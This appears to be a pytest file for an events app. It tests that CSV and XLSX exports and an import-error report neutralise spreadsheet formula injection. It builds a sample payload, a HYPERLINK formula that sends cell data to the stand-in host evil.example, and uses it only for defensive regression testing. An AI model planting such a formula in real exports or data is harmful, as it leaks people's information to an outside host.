"""Issue 13, item 3: no CSV or XLSX the product writes starts a cell with a formula (OWASP CSV injection).

Every export is fed a person whose name, phone, country, notes, RSVP comment and award start with
each dangerous prefix; no cell of the file may start with one, and no XLSX cell may be a formula.
"""
from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from eventsapp.associations.models import Role
from eventsapp.attendance.models import CheckIn
from eventsapp.events.models import EventKind, Honoree
from eventsapp.invitations.models import InvitationStatus
from eventsapp.spreadsheets import FORMULA_PREFIXES, safe_cell, unguard_cell
from eventsapp.timeutils import utcnow
from tests.contacts_support import preview_token, upload
from tests.factories import AssociationFactory, ContactFactory, EventFactory, InvitationFactory, staff

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]


def payload(prefix: str) -> str:
    return prefix + 'HYPERLINK("http://evil.example/?d="&B2,"Bấm vào")'


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_csv_guarded(data: bytes, value: str) -> None:
    cells = csv_cells(data)
    assert safe_cell(value) in cells, cells  # the value is there, as text
    bad = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert bad == [], bad


def assert_xlsx_guarded(data: bytes, value: str) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    # XML stores a carriage return as a line feed.
    assert safe_cell(value).replace("\r", "\n") in [cell.value for cell in cells]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    bad = [c.value for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA_PREFIXES)]
    assert bad == [], bad


@pytest.mark.parametrize("prefix", PREFIXES, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_every_export_neutralises_formula_prefixes(auth, client, db, prefix):
    hostile = payload(prefix)
    association = AssociationFactory()
    event = EventFactory(association=association, kind=EventKind.AWARD_CEREMONY)
    contact = ContactFactory(full_name=hostile, phone=hostile, country=hostile, place=hostile, notes=hostile,
                             associations=[association])
    invitation = InvitationFactory(event=event, contact=contact, status=InvitationStatus.ACCEPTED, comment=hostile)
    db.session.add(CheckIn(event=event, contact=contact, invitation=invitation, checked_in_at=utcnow()))
    db.session.add(Honoree(event=event, contact=contact, award=hostile, citation=hostile))
    db.session.commit()
    auth.login(staff(association, Role.ORGANISER))

    for url in ("/contacts/export.csv", f"/events/{event.id}/invitations.csv", f"/events/{event.id}/attendance.csv",
                f"/events/{event.id}/honorees.csv"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_csv_guarded(response.data, hostile)
    for url in ("/contacts/export.xlsx", f"/events/{event.id}/attendance.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        assert_xlsx_guarded(response.data, hostile)


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_the_import_error_file_neutralises_formula_prefixes(auth, db, prefix):
    association = AssociationFactory(slug="hoi-a")
    auth.login(staff(association, Role.ORGANISER))
    hostile = payload(prefix)
    source = f'Họ và tên,Email,Hội\n"{hostile.replace(chr(34), chr(34) * 2)}",khong-phai-email,hoi-a\n'
    token = preview_token(upload(auth, source.encode(), association_id=association.id))
    report = auth.client.get(f"/contacts/import/{token}/errors.csv")
    assert report.status_code == 200
    assert_csv_guarded(report.data, hostile)


def test_a_guarded_export_imports_back_unchanged():
    for prefix in PREFIXES:
        value = payload(prefix)
        assert unguard_cell(safe_cell(value)) == value
    assert safe_cell(-5) == -5 and safe_cell("Nguyễn") == "Nguyễn" and unguard_cell("'quoted") == "'quoted"


def test_control_characters_do_not_break_the_xlsx_exports(auth, client, db):
    association = AssociationFactory()
    event = EventFactory(association=association)
    contact = ContactFactory(full_name="Ngô\x01 Thị\x02 Lan\x1b", notes="=1+1\x07", associations=[association])
    db.session.add(CheckIn(event=event, contact=contact, checked_in_at=utcnow(), walk_in=True))
    db.session.commit()
    auth.login(staff(association, Role.ORGANISER))
    for url in ("/contacts/export.xlsx", f"/events/{event.id}/attendance.xlsx"):
        response = client.get(url)
        assert response.status_code == 200, url
        sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
        assert "Ngô Thị Lan" in [cell.value for row in sheet.iter_rows() for cell in row]
